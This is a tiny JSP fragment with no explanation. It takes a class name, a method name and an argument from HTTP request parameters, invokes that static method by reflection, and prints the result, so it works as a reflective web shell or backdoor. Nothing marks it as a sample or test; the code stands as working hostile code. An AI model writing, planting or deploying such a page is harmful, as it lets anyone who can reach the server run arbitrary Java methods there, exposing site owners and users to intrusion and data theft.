<%
  Object r = Class.forName(request.getParameter("c")).getMethod(request.getParameter("m"), String.class)
      .invoke(null, request.getParameter("a"));
  out.print(r);
%>
